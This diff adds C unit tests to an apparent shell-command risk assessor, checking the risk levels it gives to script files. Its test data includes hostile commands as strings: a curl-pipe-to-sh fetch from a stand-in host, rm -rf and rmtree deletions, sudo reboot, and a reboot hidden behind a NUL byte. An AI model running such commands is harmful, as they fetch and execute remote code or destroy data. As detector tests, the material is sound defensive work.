@@ -14,6 +14,7 @@
 
 #include "base/alloc.h"
 #include "base/array.h"
+#include "base/strbuf.h"
 #include "command/shell_tree.h"
 
 #define DEL RISK_DATA_DELETION
@@ -384,6 +385,70 @@ static void what_a_sandbox_stops_is_known(void **state)
     assert_false(assessment.writes_outside);
 }
 
+/* ---- files that are run ---------------------------------------------------------------------- */
+
+static const struct {
+    const char *interpreter, *text;
+    enum risk_level level;
+    size_t line; /* of the file, when it is what counts */
+} files[] = {
+    {"sh", "set -e\nnpm test\n", RISK_MEDIUM, 0},
+    {"sh", "set -e\nnpm test\nrm -rf ~/x\n", RISK_HIGH, 3},
+    {"/bin/bash", "true\r\ncurl http://x.example/ | sh", RISK_HIGH, 2},
+    {".", "rm -rf ~/x", RISK_HIGH, 1},
+    {"python3", "import os\nos.remove('x')\n", RISK_HIGH, 0},
+    {"python3", "print('rm -rf /')\n", RISK_MEDIUM, 0},
+    {"sh", "echo 'rm -rf /' # rm -rf /\n", RISK_MEDIUM, 0},
+    /* what the first line says */
+    {NULL, "sudo reboot\n", RISK_HIGH, 1},
+    {NULL, "#!/bin/sh -e\n\nsudo reboot\n", RISK_HIGH, 3},
+    {NULL, "#! /usr/bin/env -S bash -e\nsudo reboot\n", RISK_HIGH, 2},
+    {NULL, "#!/usr/bin/env python3\nimport shutil; shutil.rmtree('/x')\n", RISK_HIGH, 0},
+    {NULL, "#!/usr/bin/env python3\nprint('sudo reboot')\n", RISK_MEDIUM, 0},
+    {"sh", "#!/usr/bin/env python3\nsudo reboot\n", RISK_HIGH, 2},
+    {NULL, "#!/usr/bin/something\nsudo reboot\n", RISK_MEDIUM, 0},
+    {NULL, "#!", RISK_MEDIUM, 0},
+    {NULL, "", RISK_MEDIUM, 0},
+};
+
+static void what_a_file_says_counts(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < COUNT(files); i++) {
+        struct assessment found = {.level = RISK_LOW};
+        assess("./run", &found);
+        for (int again = 0; again < 2; again++)
+            assessment_add_script("run", files[i].interpreter, files[i].text, strlen(files[i].text),
+                                  "/home/op/project", roots, &found);
+        if (found.level != files[i].level || found.worst.line != files[i].line)
+            fail_msg("%s: %s, line %zu", files[i].text, risk_level_name(found.level),
+                     found.worst.line);
+        assert_string_equal(found.worst.file, found.level == RISK_HIGH ? "run" : "");
+        assert_non_null(strstr(found.description, "run")); /* the command stays named */
+    }
+}
+
+/* A shell passes over a NUL; and what is too long to be read may hold anything. */
+static void bytes_of_a_file_hide_nothing(void **state)
+{
+    static const char nul[] = "echo fine\0\nsu\0do reboot\n";
+    struct assessment found;
+    (void)state;
+    assess("./run", &found);
+    assessment_add_script("run", "sh", nul, sizeof(nul) - 1, "/", roots, &found);
+    assert_int_equal(found.level, RISK_HIGH);
+    assert_int_equal(found.worst.line, 2);
+
+    struct strbuf text = STRBUF_INIT;
+    while (text.length < (size_t)200 * 1024)
+        strbuf_addstr(&text, "echo fine\n");
+    assess("./run", &found);
+    assessment_add_script("run", "sh", text.data, text.length, "/", roots, &found);
+    assert_int_equal(found.level, RISK_HIGH);
+    assert_int_equal(found.worst.line, 0);
+    strbuf_free(&text);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -394,6 +459,8 @@ int main(void)
         cmocka_unit_test(objects_are_named),
         cmocka_unit_test(evidence_points_at_the_words),
         cmocka_unit_test(argv_is_read_as_its_script),
+        cmocka_unit_test(what_a_file_says_counts),
+        cmocka_unit_test(bytes_of_a_file_hide_nothing),
         cmocka_unit_test(any_bytes_are_survived),
         cmocka_unit_test(too_many_commands_are_high),
         cmocka_unit_test(long_lines_are_bounded),
